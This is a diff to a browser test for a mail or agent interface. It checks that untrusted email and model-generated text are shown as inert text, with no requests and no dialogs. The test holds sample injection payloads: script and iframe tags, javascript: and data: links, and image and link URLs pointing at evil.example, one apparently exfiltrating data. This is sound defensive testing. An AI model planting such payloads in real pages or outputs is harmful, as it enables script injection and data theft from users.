@@ -13,16 +13,16 @@ const hostile = {
 
 const { bron, browser } = await startForFile();
 
-describe("what the page shows of others' words", () => {
-  it("X3 is text: no link, no image, nothing fetched by showing it, and nothing hidden or turned around", async () => {
+describe("untrusted text on the page", () => {
+  it("X3 is shown as text: no link, no image, no request, nothing hidden and no reversed direction", async () => {
     await bron.control("deliver", {
       account: "mara@lindqvist.example",
       mail: { ...hostile, to: "mara@lindqvist.example" },
     });
     const page = await newPage(browser);
-    const asked: string[] = [];
+    const requestedUrls: string[] = [];
     const dialogs: string[] = [];
-    page.on("request", (request) => asked.push(request.url()));
+    page.on("request", (request) => requestedUrls.push(request.url()));
     page.on("dialog", (dialog) => {
       dialogs.push(dialog.message());
       void dialog.dismiss();
@@ -43,7 +43,7 @@ describe("what the page shows of others' words", () => {
     );
     expect(await page.locator('a[href*="evil"], a[href^="javascript"]').count()).toBe(0);
 
-    // The same in what a model says, whole and while it says it.
+    // The same text in a model's message, complete and while it streams.
     const runId = page.url().split("/").at(-1) ?? "";
     const response = `## Pay now\n\n[pay](https://evil.example/md "now") ${image} <script src=https://evil.example/s.js></script>\n\n[see][r] https://evil.example/bare\n\n- <iframe src=https://evil.example/f></iframe>\n- [a](javascript:alert(1)) [b](data:text/html,x)\n\n[r]: https://evil.example/ref`;
     await addToLog(bron, runId, [
@@ -54,7 +54,7 @@ describe("what the page shows of others' words", () => {
     ]);
     await page.reload();
     await page.getByRole("heading", { name: "Pay now" }).waitFor();
-    const said = await page.locator("li").filter({ hasText: "Pay now" }).last().innerText();
+    const shownText = await page.locator("li").filter({ hasText: "Pay now" }).last().innerText();
     for (const target of [
       "https://evil.example/md",
       "https://evil.example/p.png?d=61000",
@@ -64,7 +64,7 @@ describe("what the page shows of others' words", () => {
       "javascript:alert(1)",
       "data:text/html,x",
     ])
-      expect(said, target).toContain(target);
+      expect(shownText, target).toContain(target);
     expect(
       await page
         .locator("article")
@@ -78,9 +78,9 @@ describe("what the page shows of others' words", () => {
     await page.getByRole("tab", { name: "Email" }).click();
     await page.getByText("collector@evil.example").first().waitFor();
     expect(await page.locator('main img, a[href*="evil"]').count()).toBe(0);
-    expect(asked.filter((url) => new URL(url).origin !== new URL(bron.signInLink).origin)).toEqual(
-      [],
-    );
+    expect(
+      requestedUrls.filter((url) => new URL(url).origin !== new URL(bron.signInLink).origin),
+    ).toEqual([]);
     expect(dialogs).toEqual([]);
   }, 120_000);
 });
